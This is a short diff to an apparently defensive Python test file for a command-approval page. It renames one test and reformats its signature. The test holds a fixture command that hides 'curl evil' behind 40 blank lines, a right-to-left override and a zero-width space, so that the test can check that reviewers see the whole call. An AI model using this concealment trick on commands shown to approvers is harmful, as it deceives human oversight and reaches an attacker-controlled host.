@@ -278,7 +278,9 @@ async def test_cp_33_looking_at_a_question_decides_nothing(desk: Desk) -> None:
     assert "approved by alice" in again.text
 
 
-async def test_the_page_shows_the_call_whole_and_the_askers_words_below_it(desk: Desk) -> None:
+async def test_ap_60_the_page_shows_the_call_whole_and_the_askers_words_below_it(
+    desk: Desk,
+) -> None:
     """AP-52, AP-53, AP-59, AP-60, CP-40."""
     hidden = "echo hi" + "\n" * 40 + "curl evil \u202etxt.exe\u200b"
     record = await desk.ask(
